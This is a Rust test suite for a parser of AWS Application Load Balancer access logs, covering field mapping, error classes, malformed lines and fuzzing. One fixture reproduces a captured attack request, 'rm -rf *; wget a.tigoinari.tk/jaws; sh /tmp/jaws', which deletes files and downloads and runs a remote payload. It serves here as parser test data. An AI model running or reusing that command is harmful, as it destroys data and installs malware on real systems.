use super::*;
use crate::aws::tests::{assert_inside, mutate};
use proptest::prelude::*;

/// One test per line: `name, line, |event, fields| assertions`.
macro_rules! alb {
    ($($name:ident, $line:expr, |$ev:ident, $f:ident| $body:block)*) => {
        $(
            #[test]
            fn $name() {
                let line: &[u8] = $line;
                let $ev = parse(line).unwrap_or_else(|e| panic!("{e}: {}", crate::text(line)));
                assert_inside(&$ev, line);
                let $f = af(&$ev);
                $body
            }
        )*
    };
}

fn af<'a>(ev: &'a Event<'_>) -> &'a Fields<'a> {
    match &ev.fields {
        EventFields::Alb(f) => f,
        other => panic!("not ALB fields: {other:?}"),
    }
}

const DOC_HTTPS: &[u8] = b"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 \"GET https://www.example.com:443/ HTTP/1.1\" \"curl/7.46.0\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 \"Root=1-58337281-1d84f3d73c47ec4e58577259\" \"www.example.com\" \"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012\" 1 2018-07-02T22:22:48.364000Z \"authenticate,forward\" \"-\" \"-\" 10.0.0.1:80 200 \"-\" \"-\"";

alb! {
    doc_https_entry_maps_every_event_field,
    DOC_HTTPS,
    |ev, f| {
        assert_eq!(ev.format, Format::Alb);
        assert_eq!(ev.class, Class::Ok);
        assert_eq!(ev.phase, Phase::None);
        assert_eq!(ev.time.unwrap().to_string(), "2018-07-02T22:23:00.186641Z");
        assert_eq!(ev.status, Some(200));
        assert_eq!(ev.upstream, Some(&b"10.0.0.1:80"[..]));
        assert_eq!(ev.upstream_group, Some(&b"my-targets"[..]));
        assert_eq!(ev.server, Some(&b"app/my-loadbalancer/50dc6c495c0c9188"[..]));
        assert_eq!(ev.client, Some(&b"192.168.131.39:2817"[..]));
        assert_eq!(ev.request, Some(&b"GET https://www.example.com:443/ HTTP/1.1"[..]));
        assert_eq!(ev.host, Some(&b"www.example.com"[..]));
        assert_eq!(ev.message, b"");
        assert_eq!(ev.level, None);
        assert_eq!(f.kind, b"https");
        assert_eq!((f.client_ip, f.client_port), (Some(&b"192.168.131.39"[..]), Some(2817)));
        assert_eq!((f.target_ip, f.target_port), (Some(&b"10.0.0.1"[..]), Some(80)));
        assert_eq!(f.request_processing_time, Some(Timing::Micros(86_000)));
        assert_eq!(f.target_processing_time, Some(Timing::Micros(48_000)));
        assert_eq!(f.response_processing_time, Some(Timing::Micros(37_000)));
        assert_eq!(f.target_status_code, Some(200));
        assert_eq!((f.received_bytes, f.sent_bytes), (Some(0), Some(57)));
        assert_eq!(f.user_agent, Some(&b"curl/7.46.0"[..]));
        assert_eq!(f.ssl_protocol, Some(&b"TLSv1.2"[..]));
        assert_eq!(f.trace_id, Some(&b"Root=1-58337281-1d84f3d73c47ec4e58577259"[..]));
        assert_eq!(f.matched_rule_priority, Some(1));
        assert_eq!(f.request_creation_time.unwrap().to_string(), "2018-07-02T22:22:48.364000Z");
        assert_eq!(f.duration_micros, Some(11_822_641));
        assert_eq!(f.actions_executed, Some(&b"authenticate,forward"[..]));
        assert!(f.has_action(b"forward") && !f.has_action(b"auth"));
        assert_eq!(f.error_reason, None);
        // The doc example prints the two lists unquoted; they are read all the same.
        assert_eq!(f.target_port_list, Some(&b"10.0.0.1:80"[..]));
        assert_eq!(f.target_status_code_list, Some(&b"200"[..]));
        assert_eq!(f.classification, None);
        assert_eq!(f.conn_trace_id, None);
        assert_eq!(f.field_count, 29);
        assert_eq!(f.trailing, b"");
        assert!(!f.truncated);
        assert_eq!(f.rule, "B2");
    }

    connect_timeout_after_ten_seconds,
    b"h2 2023-03-08T12:05:52.352228Z app/xxxxxx/xxxxxx 198.51.100.7:12653 10.0.8.248:31130 -1 -1 -1 504 - 49 202 \"GET https://argocd.example:443/ HTTP/2.0\" \"curl/7.86.0\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-1:xxxxxx:targetgroup/k8s-contoure-contoure-347a67d9c6/f138b1630cf46114 \"Root=1-64087a16-1b7f18347fcdb5bd1573907d\" \"argocd.example\" \"arn:aws:acm:ap-northeast-1:xxxxxx:certificate/xxxxxx\" 2 2023-03-08T12:05:42.351000Z \"forward\" \"-\" \"-\" \"10.0.8.248:31130\" \"-\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::ConnectTimeout);
        assert_eq!(ev.phase, Phase::Connect);
        assert_eq!(ev.status, Some(504));
        assert_eq!(ev.upstream_group, Some(&b"k8s-contoure-contoure-347a67d9c6"[..]));
        assert_eq!(f.request_processing_time, Some(Timing::Failed));
        assert_eq!(f.target_status_code, None);
        assert_eq!(f.duration_micros, Some(10_001_228));
        assert_eq!(f.rule, "E1");
    }

    same_504_after_sixty_seconds_is_a_response_timeout,
    b"h2 2023-03-08T12:06:42.352228Z app/a/b 198.51.100.7:12653 10.0.8.248:31130 -1 -1 -1 504 - 49 202 \"GET https://a.example:443/ HTTP/2.0\" \"curl/7.86.0\" - - arn:aws:elasticloadbalancing:r:1:targetgroup/tg/1 \"Root=1-x\" \"-\" \"-\" 2 2023-03-08T12:05:42.351000Z \"forward\" \"-\" \"-\" \"10.0.8.248:31130\" \"-\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::ResponseTimeout);
        assert_eq!(ev.phase, Phase::Header);
        assert_eq!(ev.host, Some(&b"a.example"[..]));
        assert_eq!(f.rule, "E3");
    }

    lambda_invalid_response_is_invalid_header,
    b"http 2020-06-24T12:07:00.348504Z app/JavaLambda-API/99c89968ec3fad28 130.176.17.80:59918 - 0.008 0.042 -1 502 - 3142 293 \"GET http://javalambda-api.example:80/api/fribble HTTP/1.1\" \"Amazon CloudFront\" - - arn:aws:elasticloadbalancing:us-east-1:012345678901:targetgroup/JavaLambda-LambdaTarget/1c1812b9b0d16101 \"Root=1-5ef341e4-3be2975029c5ae14d4e86348\" \"-\" \"-\" 10 2020-06-24T12:07:00.297000Z \"forward\" \"-\" \"LambdaInvalidResponse\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::InvalidHeader);
        assert_eq!(ev.upstream, None);
        assert_eq!(ev.upstream_group, Some(&b"JavaLambda-LambdaTarget"[..]));
        // No SNI: the host comes from the request URI.
        assert_eq!(ev.host, Some(&b"javalambda-api.example"[..]));
        assert_eq!(f.error_reason, Some(&b"LambdaInvalidResponse"[..]));
        assert_eq!(f.field_count, 27);
        assert_eq!(f.rule, "C1");
    }

    keep_alive_race_is_prematurely_closed,
    b"http 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 10.0.3.17:8080 0.003 0.000 -1 502 - 512 272 \"POST http://shop.example:80/cart HTTP/1.1\" \"ua\" - - arn:aws:elasticloadbalancing:r:1:targetgroup/shop-web/6d0e \"Root=1-x\" \"-\" \"-\" 4 2024-06-11T09:15:02.478000Z \"forward\" \"-\" \"-\" \"10.0.3.17:8080\" \"-\" \"-\" \"-\" TID_4f6c2b9a0e1d47c8a3b5e7f901234567",
    |ev, f| {
        assert_eq!(ev.class, Class::PrematurelyClosed);
        assert_eq!(ev.phase, Phase::Header);
        assert_eq!(f.conn_trace_id, Some(&b"TID_4f6c2b9a0e1d47c8a3b5e7f901234567"[..]));
        assert_eq!(f.field_count, 30);
        assert_eq!(f.rule, "D2");
    }

    oldest_generation_truncated_after_trace_id,
    b"h2 2017-06-04T10:09:08.594592Z app/elbhhhhhFront/7dalllllllla2d31a2b 99.203.0.7:7900007 10.999900.4.77:80 0.000 -1 -1 400 - 702 0 \"POST https:/vent?timestamp=1.4965709xxxxx_channel=gp HTTP/2.0\" \"Dalvik/2.) NewsArticle/3.5.1\" ECDHESHA256 T1.2 arn:aws:elasticloadbalancing:us-east-1:25095b3c2 \"Root=1-5933dc44-07d638\"",
    |ev, f| {
        assert_eq!(ev.class, Class::ClientError);
        assert_eq!(f.field_count, 18);
        // A mangled port leaves the address and no port.
        assert_eq!((f.client_ip, f.client_port), (Some(&b"99.203.0.7"[..]), None));
        // An ARN without `targetgroup/` names no group.
        assert_eq!(ev.upstream_group, None);
        assert_eq!(ev.host, None);
        assert_eq!(f.domain_name, None);
        assert_eq!(f.request_creation_time, None);
        assert_eq!(f.duration_micros, None);
        assert_eq!(f.rule, "A5");
    }

    space_in_uri_and_redirect,
    b"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 75.100.154.140:41542 - -1 -1 -1 301 - 233 390 \"GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1\" \"Hello, world\" - - - \"Root=1-627cac19-4c6df30820daa80e3fd72ced\" \"-\" \"-\" 0 2022-05-12T06:41:29.051000Z \"redirect\" \"https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws\" \"-\" \"-\" \"-\" \"Acceptable\" \"SpaceInUri\"",
    |ev, f| {
        assert_eq!(ev.class, Class::Ok);
        assert_eq!(ev.request, Some(&b"GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1"[..]));
        assert_eq!(ev.host, Some(&b"127.0.0.1"[..]));
        assert_eq!(f.user_agent, Some(&b"Hello, world"[..]));
        assert_eq!(f.classification_reason, Some(&b"SpaceInUri"[..]));
        assert_eq!(f.rule, "A1");
    }

    fixed_response_503_is_ok,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 - -1 -1 -1 503 - 512 300 \"GET https://shop.example:443/ HTTP/1.1\" \"ua\" - - - \"Root=1-x\" \"shop.example\" \"-\" 7 2024-06-11T09:15:02.480000Z \"fixed-response\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::Ok);
        assert_eq!(ev.status, Some(503));
        assert_eq!(f.rule, "A1");
    }

    no_targets_is_no_live_upstreams,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 - -1 -1 -1 503 - 512 300 \"GET https://shop.example:443/ HTTP/1.1\" \"ua\" - - arn:aws:elasticloadbalancing:r:1:targetgroup/empty/1 \"Root=1-x\" \"shop.example\" \"-\" 7 2024-06-11T09:15:02.480000Z \"forward\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::NoLiveUpstreams);
        assert_eq!(ev.phase, Phase::Connect);
        assert_eq!(ev.upstream_group, Some(&b"empty"[..]));
        assert_eq!(f.rule, "D1");
    }

    refused_connect_is_connect_error,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 10.0.3.17:8080 -1 -1 -1 502 - 512 300 \"GET https://shop.example:443/ HTTP/1.1\" \"ua\" - - arn:aws:elasticloadbalancing:r:1:targetgroup/web/1 \"Root=1-x\" \"shop.example\" \"-\" 7 2024-06-11T09:15:02.480000Z \"forward\" \"-\" \"-\" \"10.0.3.17:8080\" \"-\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::ConnectError);
        assert_eq!(ev.phase, Phase::Connect);
        assert_eq!(f.duration_micros, Some(1_915));
        assert_eq!(f.rule, "D3");
    }

    client_460_is_client_abort,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 10.0.3.17:8080 0.000 -1 -1 460 - 512 0 \"GET https://shop.example:443/slow HTTP/1.1\" \"ua\" - - arn:aws:elasticloadbalancing:r:1:targetgroup/web/1 \"Root=1-x\" \"shop.example\" \"-\" 7 2024-06-11T09:14:40.000000Z \"forward\" \"-\" \"-\" \"10.0.3.17:8080\" \"-\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::ClientAbort);
        assert_eq!(f.rule, "A4");
    }

    ipv6_client_splits_on_the_last_colon,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 2001:db8:85a3::8a2e:370:7334:50122 10.0.3.17:8080 0.001 0.010 0.000 200 200 512 300 \"GET https://shop.example:443/ HTTP/1.1\" \"ua\" - - - \"Root=1-x\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.client, Some(&b"2001:db8:85a3::8a2e:370:7334:50122"[..]));
        assert_eq!(f.client_ip, Some(&b"2001:db8:85a3::8a2e:370:7334"[..]));
        assert_eq!(f.client_port, Some(50122));
        assert_eq!(f.field_count, 20);
    }

    unknown_trailing_fields_are_kept_raw,
    b"https 2025-08-19T21:34:47.383127Z some/alb/target 1.23.45.67:12345 10.20.30.40:8080 0.010 0.005 0.000 200 200 496 340 \"GET https://example.com:443/url/path HTTP/1.1\" \"User/Agent\" SSL-CIPHERS TLSv1.2 arn:aws:elasticloadbalancing:us-feast-1:123456789012:targetgroup/target-group-name/some-id \"Root=1-1\" \"example.com\" \"arn:aws:acm:x\" 20 2025-08-19T21:34:47.367000Z \"some_action,forward\" \"-\" \"-\" \"10.20.30.40:8080\" \"200\" \"-\" \"-\" TID_12345678901234567890123456789012 \"example.org\" \"/rewritten\" \"TransformSucceeded\" 10.0.0.5  \"new field\" ",
    |ev, f| {
        assert_eq!(ev.class, Class::Ok);
        assert_eq!(f.transformed_host, Some(&b"example.org"[..]));
        assert_eq!(f.transformed_uri, Some(&b"/rewritten"[..]));
        assert_eq!(f.request_transform_status, Some(&b"TransformSucceeded"[..]));
        assert_eq!(f.trailing, b"10.0.0.5  \"new field\"");
        assert_eq!(f.field_count, 33);
    }

    every_field_quoted,
    b"\"https\" \"2018-07-02T22:23:00.186641Z\" \"app/my-loadbalancer/50dc6c495c0c9188\" \"192.168.131.39:2817\" \"10.0.0.1:80\" \"0.086\" \"0.048\" \"-1\" \"502\" \"-\" \"0\" \"57\" \"GET https://www.example.com:443/ HTTP/1.1\" \"curl/7.46.0\" \"-\" \"-\" \"arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067\"",
    |ev, f| {
        assert_eq!(ev.class, Class::PrematurelyClosed);
        assert_eq!(ev.upstream, Some(&b"10.0.0.1:80"[..]));
        assert_eq!(f.kind, b"https");
        assert_eq!(f.field_count, 17);
    }

    escaped_quote_is_kept_raw,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 10.0.3.17:8080 0.001 0.010 0.000 400 400 512 300 \"GET https://shop.example:443/q?x=\\x22a b\\x22 HTTP/1.1\" \"ua \\x22quoted\\x22\" - - - \"Root=1-x\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.request, Some(&b"GET https://shop.example:443/q?x=\\x22a b\\x22 HTTP/1.1"[..]));
        assert_eq!(f.user_agent, Some(&b"ua \\x22quoted\\x22"[..]));
        assert_eq!(ev.class, Class::Ok);
    }

    cut_line_keeps_complete_fields,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 10.0.3.17:8080 0.000 0.013 0.000 500 500 512 300 \"GET https://shop.example:443/q HTT",
    |ev, f| {
        assert_eq!(ev.class, Class::Upstream5xx);
        assert_eq!(ev.request, Some(&b"GET https://shop.example:443/q HTT"[..]));
        assert!(f.truncated);
        assert_eq!(f.user_agent, None);
    }

    crlf_is_not_part_of_the_line,
    b"https 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 10.0.3.17:8080 0.000 0.013 0.000 200 200 512 300 \"GET / HTTP/1.1\" \"ua\" - -\r\n",
    |ev, f| {
        assert_eq!(f.ssl_protocol, None);
        assert!(ev.raw.ends_with(b"- -"));
        assert_eq!(ev.request, Some(&b"GET / HTTP/1.1"[..]));
        assert_eq!(ev.host, None);
    }

    no_request_line_is_none,
    b"http 2024-06-11T09:15:02.481915Z app/shop/5d0b 203.0.113.24:51234 - -1 -1 -1 400 - 0 272 \"- - -\" \"-\" - - - \"-\" \"-\" \"-\" - - \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\"",
    |ev, f| {
        assert_eq!(ev.class, Class::ClientError);
        assert_eq!(ev.request, None);
        assert_eq!(f.matched_rule_priority, None);
        assert_eq!(f.actions_executed, None);
    }
}

#[test]
fn sibling_logs_are_skipped() {
    let cases: [(&[u8], &str); 3] = [
        (b"2024-06-11T09:15:02.470129Z 203.0.113.24 51234 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4 \"-\" - - Success TID_4f6c2b9a0e1d47c8a3b5e7f901234567", "alb connection log"),
        (b"tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:x - ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.amazonaws.com - - - 2018-12-20T02:59:30", "nlb access log"),
        (b"http 2025-11-21T10:00:04.512000Z 10.0.3.17:8080 tg-6d0ecf831eec9f09 unhealthy 5002 Target.Timeout", "alb health check log"),
    ];
    for (line, what) in cases {
        let e = parse(line).unwrap_err();
        assert_eq!(e.kind, ParseErrorKind::Skipped(what), "{}", crate::text(line));
        assert_eq!(e.format, Some(Format::Alb));
    }
}

#[test]
fn errors_name_the_field_and_offset() {
    let line = b"https 2018-07-02T22:23:00Z app/a/b 1.2.3.4:5 - 0.001 fast 0.000 200 200";
    let e = parse(line).unwrap_err();
    assert_eq!(e.kind, ParseErrorKind::InvalidField("target_processing_time"));
    assert_eq!(e.offset, line.iter().position(|&c| c == b'f').unwrap());
    let e = parse(b"https 2018-07-02T22:23:00Z app/a/b 1.2.3.4:5 - 0.001 0.002").unwrap_err();
    assert_eq!(e.kind, ParseErrorKind::MissingField("response_processing_time"));
    let e = parse(b"https 2018-02-30T22:23:00Z app/a/b 1.2.3.4:5 - 0 0 0 200 200").unwrap_err();
    assert_eq!((e.kind, e.offset), (ParseErrorKind::InvalidField("time"), 6));
    let e = parse(b"https 2018-07-02T22:23:00Z app/a/b 1.2.3.4:5 - 0 0 0 2000 200").unwrap_err();
    assert_eq!(e.kind, ParseErrorKind::InvalidField("elb_status_code"));
    assert_eq!(parse(b"  \r\n").unwrap_err().kind, ParseErrorKind::Empty);
    for other in [
        &b"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 \"GET / HTTP/1.1\" \"curl\" - -"[..],
        b"2024/11/03 06:09:29 [error] 1#1: *1 no live upstreams",
        b"GET / HTTP/1.1",
    ] {
        assert_eq!(parse(other).unwrap_err().kind, ParseErrorKind::NotRecognized);
    }
}

#[test]
fn visit_lists_present_fields_in_order() {
    let ev =
        parse(b"https 2018-07-02T22:23:00Z app/a/b 1.2.3.4:5 - -1 -1 -1 503 - 0 1 \"- - -\" \"-\"")
            .unwrap();
    let mut seen = Vec::new();
    ev.fields.visit(&mut |k, v| seen.push((k, v)));
    assert_eq!(
        seen,
        [
            ("type", Value::Text(b"https")),
            ("client_ip", Value::Text(b"1.2.3.4")),
            ("client_port", Value::Uint(5)),
            ("request_processing_time", Value::Int(-1)),
            ("target_processing_time", Value::Int(-1)),
            ("response_processing_time", Value::Int(-1)),
            ("received_bytes", Value::Uint(0)),
            ("sent_bytes", Value::Uint(1)),
            ("rule", Value::Label("D1")),
        ]
    );
}

#[test]
fn parser_dispatches_alb_in_fixed_and_detected_mode() {
    for format in [Some(Format::Alb), None] {
        let mut p = crate::Parser::new(format, crate::Options::default());
        assert_eq!(p.parse(DOC_HTTPS).unwrap().format, Format::Alb);
    }
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(line in proptest::collection::vec(any::<u8>(), 0..400)) {
        if let Ok(ev) = parse(&line) {
            assert_inside(&ev, &line);
        }
    }

    #[test]
    fn mutated_real_lines_never_panic(
        edits in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 1..8),
        which in 0usize..3,
    ) {
        let base: [&[u8]; 3] = [
            DOC_HTTPS,
            b"h2 2023-03-08T12:05:52.352228Z app/x/y 1.2.3.4:12653 10.0.8.248:31130 -1 -1 -1 504 - 49 202 \"GET https://a.example:443/ HTTP/2.0\" \"curl/7.86.0\" - - arn:aws:elasticloadbalancing:r:1:targetgroup/tg/1 \"Root=1\" \"a.example\" \"-\" 2 2023-03-08T12:05:42.351000Z \"forward\" \"-\" \"-\" \"10.0.8.248:31130\" \"-\" \"-\" \"-\" TID_1 \"-\" \"-\" \"-\" extra",
            b"http 2022-05-12T06:41:29.051646Z app/a/b 75.100.154.140:41542 - -1 -1 -1 301 - 233 390 \"GET http://127.0.0.1:80/s?a b HTTP/1.1\" \"Hello, world\" - - - \"Root=1\" \"-\" \"-\" 0 2022-05-12T06:41:29.051000Z \"redirect\" \"https://x/\" \"-\" \"-\" \"-\" \"Acceptable\" \"SpaceInUri\"",
        ];
        let line = mutate(base[which], &edits);
        if let Ok(ev) = parse(&line) {
            assert_inside(&ev, &line);
        }
    }
}
